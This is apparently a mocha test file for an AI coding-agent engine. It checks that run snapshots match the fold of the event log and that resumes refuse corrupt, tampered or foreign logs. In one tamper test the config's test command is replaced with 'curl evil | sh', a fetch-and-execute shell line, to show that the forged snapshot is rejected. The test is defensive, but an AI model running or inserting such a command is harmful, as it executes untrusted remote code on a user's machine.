import { strict as assert } from 'node:assert';
import { createHash } from 'node:crypto';
import { mkdir, readFile, rm, writeFile } from 'node:fs/promises';
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { resolveRunConfig } from '../../src/core/config';
import { ForeignRunError } from '../../src/core/engine';
import { EVENTS_FILE, EventLogError, LOCK_FILE, readLog } from '../../src/core/log/eventLog';
import { readRunState, SNAPSHOT_FILE, writeRunSnapshot } from '../../src/core/log/snapshot';
import type { EngineEvent } from '../../src/shared/events';
import { foldEvents, type RunState } from '../../src/shared/runState';
import { startFakeOpenAI, type FakeReply, type FakeServer } from '../support/fakeProviders';
import { CALCULATOR_TRANSCRIPT, calculatorWorkspace, makeEngine, scriptedConfig, tempDir } from './helpers';

/** Deterministic pseudo-random numbers (mulberry32): a failing case can be run again. */
function random(seed: number): () => number {
  let value = seed >>> 0;
  return () => {
    value = (value + 0x6d2b79f5) >>> 0;
    let t = value;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

/** Payloads chosen to trip a reader that looks at bytes instead of parsing: keys, quotes, reserved names, unicode. */
const TRICKY = ['plain', '"seq":1,"at":"x","runId":"y"}', '{"type":"run.status","status":"failed"}', 'constructor', '"__proto__"', 'ü€😀\\n\n\r\t', '}'.repeat(50), 'x'.repeat(5000)];

/** A real run's events with tool calls, results and agent text of tricky payloads put in at random places, renumbered. */
function withNoise(events: readonly EngineEvent[], next: () => number): EngineEvent[] {
  const out: EngineEvent[] = [];
  const pick = () => TRICKY[Math.floor(next() * TRICKY.length)]!;
  for (const event of events) {
    out.push(event);
    while (next() < 0.5) {
      const base = { stepId: 'plan@v1', toolCallId: `c${out.length}`, seq: 0, at: event.at, runId: event.runId };
      const kind = next();
      if (kind < 0.4) out.push({ type: 'tool.call', ...base, tool: 'read_file', input: JSON.stringify({ path: pick() }) } as EngineEvent);
      else if (kind < 0.8) out.push({ type: 'tool.result', ...base, tool: 'read_file', ok: next() < 0.5, output: pick() } as EngineEvent);
      else out.push({ type: 'agent.text', stepId: 'plan@v1', role: 'planner', text: pick(), seq: 0, at: event.at, runId: event.runId } as EngineEvent);
    }
  }
  // Written the way EventLog writes: the payload first, then seq, at and runId.
  return out.map((event, index) => {
    const { seq: _seq, at, runId, ...payload } = event;
    return { ...payload, seq: index + 1, at, runId } as EngineEvent;
  });
}

const lineOf = (event: EngineEvent) => `${JSON.stringify(event)}\n`;
/** RunState as JSON has it: an absent optional field and one set to undefined are the same state. */
const plain = (state: RunState | undefined) => JSON.parse(JSON.stringify(state ?? null)) as unknown;

async function fullFold(runDir: string): Promise<RunState | undefined> {
  return foldEvents((await readLog(runDir)).events);
}

describe('run snapshots: a cache that never disagrees with the fold of the log', function () {
  this.timeout(120_000);
  let realEvents: EngineEvent[] = [];

  before(async () => {
    const ws = await calculatorWorkspace();
    const { engine, runsDir } = await makeEngine(ws);
    const handle = await engine.startRun('Fix the failing calculator tests', scriptedConfig(CALCULATOR_TRANSCRIPT));
    const final = await handle.finished;
    assert.equal(final.status, 'completed', final.statusReason);
    realEvents = (await readLog(join(runsDir, handle.runId))).events;
    await engine.dispose();
  });

  it('folds every prefix of noisy logs to the same state as the whole fold, from any earlier snapshot or none', async () => {
    const next = random(20261202);
    let comparisons = 0;
    let payloadFree = 0;
    for (let round = 0; round < 6; round++) {
      const events = withNoise(realEvents, next);
      const lines = events.map(lineOf);
      const runDir = await tempDir('sm-snapshot-');
      for (let trial = 0; trial < 12; trial++) {
        const end = 1 + Math.floor(next() * lines.length);
        const at = Math.floor(next() * (end + 1));
        await rm(join(runDir, SNAPSHOT_FILE), { force: true });
        await writeFile(join(runDir, EVENTS_FILE), lines.slice(0, at).join(''));
        const early = foldEvents(events.slice(0, at));
        if (early) await writeRunSnapshot(runDir, early, Buffer.byteLength(lines.slice(0, at).join('')));
        await writeFile(join(runDir, EVENTS_FILE), lines.slice(0, end).join(''));
        const expected = await fullFold(runDir);
        const folded = await readRunState(runDir);
        assert.deepEqual(plain(folded?.state), plain(expected), `round ${round}: events 1..${end}, snapshot at ${at}`);
        assert.equal(folded?.source, early && at > 0 ? 'snapshot' : 'log');
        assert.deepEqual(folded?.created, events[0]);
        payloadFree += folded?.payloadFree ?? 0;
        comparisons++;
      }
    }
    assert.equal(comparisons, 72);
    assert.ok(payloadFree > 100, `tool events were folded without parsing their payload (${payloadFree})`);
  });

  it('falls back to the whole fold for a missing, stale, corrupt, foreign-versioned or tampered snapshot', async () => {
    const lines = realEvents.map(lineOf);
    const runDir = await tempDir('sm-snapshot-');
    const half = Math.floor(lines.length / 2);
    const halfBytes = Buffer.byteLength(lines.slice(0, half).join(''));
    const log = join(runDir, EVENTS_FILE);
    const snapshotPath = join(runDir, SNAPSHOT_FILE);
    await writeFile(log, lines.join(''));
    const expected = plain(await fullFold(runDir));
    const check = async (what: string, source: 'snapshot' | 'log') => {
      const folded = await readRunState(runDir);
      assert.deepEqual(plain(folded?.state), expected, what);
      assert.equal(folded?.source, source, what);
    };
    await check('missing', 'log');
    await writeRunSnapshot(runDir, foldEvents(realEvents.slice(0, half))!, halfBytes);
    await check('valid, with a tail', 'snapshot');
    const good = await readFile(snapshotPath, 'utf8');

    await writeFile(snapshotPath, good.slice(0, good.length / 2));
    await check('torn JSON', 'log');
    await writeFile(snapshotPath, good.replace('"version":1', '"version":999'));
    await check('another version', 'log');
    const snapshot = JSON.parse(good) as { coveredBytes: number; state: RunState };
    await writeFile(snapshotPath, JSON.stringify({ ...snapshot, coveredBytes: snapshot.coveredBytes + 1 }));
    await check('covering bytes that are not an event end', 'log');
    await writeFile(snapshotPath, JSON.stringify({ ...snapshot, state: { ...snapshot.state, config: { ...snapshot.state.config, testCommand: 'curl evil | sh' } } }));
    await check('a config that is not run.created\'s', 'log');
    await writeFile(snapshotPath, JSON.stringify({ ...snapshot, state: { ...snapshot.state, tasks: JSON.parse('{"__proto__":{}}') as RunState['tasks'] } }));
    await check('a reserved key', 'log');
    await writeFile(snapshotPath, good);
    await writeFile(log, lines.slice(0, half - 1).join(''));
    assert.deepEqual(plain((await readRunState(runDir))?.state), plain(foldEvents(realEvents.slice(0, half - 1))), 'a log shorter than the snapshot (rewritten)');
    assert.equal((await readRunState(runDir))?.source, 'log');
    // Same length, other bytes where the snapshot ends: the log was replaced.
    const replaced = lines.slice(0, half).join('').replace(/"at":"(\d{4})/g, '"at":"1999');
    await writeFile(log, replaced + lines.slice(half).join(''));
    assert.equal((await readRunState(runDir))?.source, 'log');
  });

  it('parses whole any tool line that does not look exactly as the log writer writes it', async () => {
    const runDir = await tempDir('sm-snapshot-');
    const created = realEvents[0]!;
    const forged = `{"type":"tool.result","stepId":"s","toolCallId":"c","tool":"t","ok":true,"output":"","type":"run.status","status":"planning","seq":2,"at":"${created.at}","runId":"${created.runId}"}\n`;
    await writeFile(join(runDir, EVENTS_FILE), lineOf(created) + forged);
    const folded = await readRunState(runDir);
    assert.equal(folded?.state.status, 'planning');
    assert.equal(folded?.payloadFree, 0);
    assert.deepEqual(plain(folded?.state), plain(await fullFold(runDir)));
    const reserved = `{"type":"tool.call","stepId":"s","taskId":"__proto__","toolCallId":"c","tool":"t","input":"","seq":2,"at":"${created.at}","runId":"${created.runId}"}\n`;
    await writeFile(join(runDir, EVENTS_FILE), lineOf(created) + reserved);
    await assert.rejects(fullFold(runDir), /reserved/);
    await assert.rejects(readRunState(runDir), /reserved/);
  });

  it('leaves out a torn last line and refuses a corrupt one in the middle, as readLog does', async () => {
    const runDir = await tempDir('sm-snapshot-');
    const lines = realEvents.map(lineOf);
    await writeFile(join(runDir, EVENTS_FILE), lines.slice(0, 5).join('') + lines[5]!.slice(0, 20));
    assert.deepEqual(plain((await readRunState(runDir))?.state), plain(foldEvents(realEvents.slice(0, 5))));
    await writeFile(join(runDir, EVENTS_FILE), lines.slice(0, 5).join('') + '{"broken\n' + lines.slice(5).join(''));
    await assert.rejects(readRunState(runDir), /corrupt/);
  });

  it('the engine leaves a snapshot when a run ends, and lists and reads runs through it', async () => {
    const ws = await calculatorWorkspace();
    const { engine, runsDir } = await makeEngine(ws);
    const handle = await engine.startRun('Fix the failing calculator tests', scriptedConfig(CALCULATOR_TRANSCRIPT));
    await handle.finished;
    await engine.dispose();
    const runDir = join(runsDir, handle.runId);
    const { engine: reader } = await makeEngine(ws);
    const written = JSON.parse(await readFile(join(runDir, SNAPSHOT_FILE), 'utf8')) as { coveredBytes: number; state: RunState };
    assert.equal(written.coveredBytes, (await readFile(join(runDir, EVENTS_FILE))).length);
    assert.deepEqual(plain(written.state), plain(await fullFold(runDir)));
    assert.equal((await readRunState(runDir))?.foldedEvents, 0, 'nothing left to fold');
    const listed = await reader.listRuns();
    await rm(join(runDir, SNAPSHOT_FILE));
    assert.deepEqual(await reader.listRuns(), listed, 'the same list without the snapshot');
    // The list folded the whole log again and wrote the snapshot back.
    assert.equal((await readRunState(runDir))?.source, 'snapshot');
    assert.deepEqual(plain(await reader.getRun(handle.runId)), plain(await fullFold(runDir)));
  });
});

/** The four model answers of a one-task run: plan, edit, finish, review. */
const call = (name: string, input: Record<string, unknown>): FakeReply => ({ kind: 'answer', toolCalls: [{ name, input }] });
const RUN_REPLIES: FakeReply[] = [
  call('finish', {
    summary: 'Fix add().',
    tasks: [{ id: 't1', title: 'Fix add()', description: 'Return a + b.', role: 'implementer', dependsOn: [], acceptance: ['add tests pass'], files: ['src/calc.js'] }],
  }),
  call('propose_edit', { path: 'src/calc.js', hunks: [{ search: 'return a - b;', replace: 'return a + b;' }] }),
  call('finish', { summary: 'add adds' }),
  call('finish', { approved: true, summary: 'good', issues: [] }),
];

/**
 * Overwrites the second half of the first `type` line with '#', keeping its byte length (so a
 * snapshot's covered length and anchor still match): the line is no longer JSON. Returns the undo.
 */
async function corruptFirstLine(log: string, type: string): Promise<{ offset: number; restore: () => Promise<void> }> {
  const bytes = await readFile(log);
  const start = bytes.indexOf(`\n{"type":"${type}"`) + 1;
  assert.ok(start > 0, `the log has a ${type} line after its first`);
  const end = bytes.indexOf(0x0a, start);
  const original = Buffer.from(bytes.subarray(start, end));
  bytes.fill(0x23, start + Math.floor((end - start) / 2), end);
  await writeFile(log, bytes);
  assert.throws(() => JSON.parse(bytes.toString('utf8', start, end)), 'the line is really broken');
  return {
    offset: start,
    restore: async () => {
      const now = await readFile(log);
      original.copy(now, start);
      await writeFile(log, now);
    },
  };
}

/** The events appended after `before` (the log's bytes before a resume), which must be kept byte for byte. */
async function appendedAfter(log: string, before: Buffer): Promise<EngineEvent[]> {
  const after = await readFile(log);
  assert.ok(after.subarray(0, before.length).equals(before), 'nothing that was in the log was lost or rewritten');
  return after.toString('utf8', before.length).split('\n').filter((line) => line !== '').map((line) => JSON.parse(line) as EngineEvent);
}

describe('resuming from the snapshot and the tail (engine)', function () {
  this.timeout(120_000);
  const servers: FakeServer[] = [];
  afterEach(async () => {
    await Promise.all(servers.splice(0).map((server) => server.close()));
  });
  const secret = async () => 'sk-test-000000000000000000000000';

  /**
   * A run of a real provider (a local fake: scripted models make the driver read the whole log)
   * paused by its cost cap: resumable, and a resume makes no model call until the cap is raised.
   */
  async function pausedRun(): Promise<{ ws: string; runsDir: string; runId: string; runDir: string; log: string; server: FakeServer; lastSeq: number }> {
    const server = await startFakeOpenAI(...RUN_REPLIES);
    servers.push(server);
    const ws = await calculatorWorkspace();
    const { engine, runsDir } = await makeEngine(ws, { secret });
    const models = [{ id: 'paid', provider: 'openai' as const, model: 'gpt-5.4', baseURL: server.url, prices: { inputPerMTok: 100, outputPerMTok: 100 }, maxOutputTokens: 200 }];
    const config = resolveRunConfig({ models, roles: Object.fromEntries(['planner', 'implementer', 'reviewer', 'fixer'].map((role) => [role, ['paid']])), autoApprove: true, budgets: { run: { usd: 0.16 }, onExceed: 'pause' } });
    const handle = await engine.startRun('Fix the failing calculator tests', config);
    const paused = await handle.finished;
    assert.equal(paused.status, 'paused', paused.statusReason);
    await engine.dispose();
    const runDir = join(runsDir, handle.runId);
    return { ws, runsDir, runId: handle.runId, runDir, log: join(runDir, EVENTS_FILE), server, lastSeq: paused.lastSeq };
  }

  it('a snapshot covering the whole log resumes without reading the log: a corrupt early line is not touched, and seq goes on from the snapshot', async () => {
    const { ws, runId, runDir, log, server, lastSeq } = await pausedRun();
    const covered = (await readRunState(runDir))!;
    assert.equal(covered.source, 'snapshot');
    assert.equal(covered.foldedEvents, 0, 'the snapshot the driver left covers the whole log');
    const broken = await corruptFirstLine(log, 'tool.call');
    await assert.rejects(readLog(runDir), /corrupt/, 'a reader of the whole log would refuse it');
    const before = await readFile(log);
    const requests = server.requests.length;

    const { engine } = await makeEngine(ws, { secret });
    const resumed = await (await engine.resumeRun(runId)).finished;
    await engine.dispose();
    assert.equal(resumed.status, 'paused', 'the cap still holds: paused again, before any call');
    assert.equal(server.requests.length, requests, 'no model call');
    const added = await appendedAfter(log, before);
    assert.deepEqual(added.map((event) => event.seq), added.map((_event, index) => lastSeq + 1 + index), 'numbered on from the last event the snapshot covers');
    assert.ok(added.every((event) => event.runId === runId));
    assert.deepEqual(added[0], { ...added[0], type: 'log', message: `Resuming the run from event ${lastSeq} (paused).` });
    assert.equal(resumed.lastSeq, added.at(-1)!.seq);
    assert.ok(added.some((event) => event.type === 'budget.exceeded'));
    assert.equal(existsSync(`${log}.torn`), false);
    // With the line put back, the whole log folds to the state the resumed run ended in.
    await broken.restore();
    assert.deepEqual(plain(resumed), plain(await fullFold(runDir)));
  });

  it('a stale snapshot is continued by folding only the tail, which the resumed run honours, to the state the whole log folds to', async () => {
    const { ws, runId, runDir, log, server } = await pausedRun();
    const stale = await readFile(join(runDir, SNAPSHOT_FILE));
    const { engine: raiser } = await makeEngine(ws, { secret });
    await raiser.setBudgets(runId, { run: { usd: 1 }, onExceed: 'pause' });
    await raiser.dispose();
    // The snapshot from before the budgets changed, as a writer that stopped before storing its own leaves it.
    await writeFile(join(runDir, SNAPSHOT_FILE), stale);
    const tail = (await readRunState(runDir))!;
    assert.equal(tail.source, 'snapshot');
    assert.equal(tail.foldedEvents, 1, 'the log has the budget change after the snapshot');
    assert.deepEqual(plain(tail.state), plain(await fullFold(runDir)));
    const lastSeq = tail.state.lastSeq;
    // A corrupt early line: only a resume that starts from the snapshot can go on at all.
    const broken = await corruptFirstLine(log, 'tool.call');
    const before = await readFile(log);

    const { engine } = await makeEngine(ws, { secret });
    const resumed = await (await engine.resumeRun(runId)).finished;
    await engine.dispose();
    assert.equal(resumed.status, 'completed', `the raised cap in the tail was folded (${resumed.statusReason})`);
    assert.equal(server.requests.length, RUN_REPLIES.length);
    const added = await appendedAfter(log, before);
    assert.deepEqual(added.map((event) => event.seq), added.map((_event, index) => lastSeq + 1 + index));
    await broken.restore();
    assert.deepEqual(plain(resumed), plain(await fullFold(runDir)), 'snapshot + tail + the resumed run = the fold of the whole log');
  });

  it('without a snapshot, a corrupt early line refuses resume and triage with the file named, and changes nothing; a torn last line is recovered', async () => {
    const { ws, runId, runDir, log, server } = await pausedRun();
    await rm(join(runDir, SNAPSHOT_FILE));
    const broken = await corruptFirstLine(log, 'tool.call');
    const before = await readFile(log);
    const requests = server.requests.length;
    const { engine } = await makeEngine(ws, { secret });
    const corrupt = (error: unknown) => error instanceof EventLogError && error.message.includes(log) && /not valid JSON and is not the last line: the log is corrupt/.test(error.message);
    await assert.rejects(engine.resumeRun(runId), corrupt);
    await assert.rejects(engine.triageTask(runId, 't1', { kind: 'skip' }), corrupt);
    assert.ok((await readFile(log)).equals(before), 'the log is as it was');
    assert.equal(existsSync(join(runDir, SNAPSHOT_FILE)), false, 'no snapshot of a log that does not fold');
    assert.equal(existsSync(`${log}.torn`), false);
    assert.equal(existsSync(join(runDir, LOCK_FILE)), false, 'the lock was given back');
    assert.equal(server.requests.length, requests);

    // A crash mid-write, by contrast, is recovered: the fragment is cut off and kept.
    await broken.restore();
    const fragment = '{"type":"log","level":"info","mess';
    await writeFile(log, Buffer.concat([before.subarray(0, broken.offset), (await readFile(log)).subarray(broken.offset), Buffer.from(fragment)]));
    const whole = (await readFile(log)).subarray(0, before.length);
    const resumed = await (await engine.resumeRun(runId)).finished;
    await engine.dispose();
    assert.equal(resumed.status, 'paused');
    assert.equal(await readFile(`${log}.torn`, 'utf8'), fragment);
    const added = await appendedAfter(log, whole);
    assert.match((added[0] as { message?: string }).message ?? '', /Dropped a torn last line/);
    assert.deepEqual(plain(resumed), plain(await fullFold(runDir)));
  });

  it('trusts no snapshot about whose run it is: a foreign log with a valid snapshot, or our run\'s snapshot beside it, is refused', async () => {
    const { ws, runsDir, runId, runDir, server } = await pausedRun();
    // A run this machine never created: our run's log under another id (a shipped or edited log).
    const foreignId = `${runId.slice(0, -3)}${runId.endsWith('zzz') ? 'yyy' : 'zzz'}`;
    const foreignDir = join(runsDir, foreignId);
    await mkdir(foreignDir);
    const foreignLog = join(foreignDir, EVENTS_FILE);
    await writeFile(foreignLog, (await readFile(join(runDir, EVENTS_FILE), 'utf8')).split(runId).join(foreignId));
    const before = await readFile(foreignLog);
    const requests = server.requests.length;
    const { engine } = await makeEngine(ws, { secret });
    const refusedUnchanged = async (what: string) => {
      await assert.rejects(engine.resumeRun(foreignId), ForeignRunError, what);
      await assert.rejects(engine.triageTask(foreignId, 't1', { kind: 'skip' }), ForeignRunError, what);
      assert.ok((await readFile(foreignLog)).equals(before), `${what}: the log is as it was`);
      assert.equal(existsSync(join(foreignDir, LOCK_FILE)), false, `${what}: the lock was given back`);
      assert.equal(server.requests.length, requests, what);
    };

    // Our own run's snapshot, made to match the foreign log's bytes where it ends.
    const ours = JSON.parse(await readFile(join(runDir, SNAPSHOT_FILE), 'utf8')) as { coveredBytes: number; anchorSha256: string; state: RunState };
    assert.equal(ours.coveredBytes, before.length);
    const anchorSha256 = createHash('sha256').update(before.subarray(before.length - 128)).digest('hex');
    await writeFile(join(foreignDir, SNAPSHOT_FILE), JSON.stringify({ ...ours, anchorSha256 }));
    assert.equal((await readRunState(foreignDir))?.source, 'log', 'a snapshot of another run is not used');
    await refusedUnchanged('our snapshot beside a foreign log');

    // A snapshot that truly is the foreign log's: the fast path, where ownership comes from the log.
    await rm(join(foreignDir, SNAPSHOT_FILE));
    await writeRunSnapshot(foreignDir, (await fullFold(foreignDir))!, before.length);
    const valid = await readRunState(foreignDir);
    assert.equal(valid?.source, 'snapshot');
    assert.equal(valid?.foldedEvents, 0);
    await refusedUnchanged('a valid snapshot of a foreign log');
    await engine.dispose();
    // Our own run still resumes.
    const { engine: own } = await makeEngine(ws, { secret });
    assert.equal((await (await own.resumeRun(runId)).finished).status, 'paused');
    await own.dispose();
  });
});
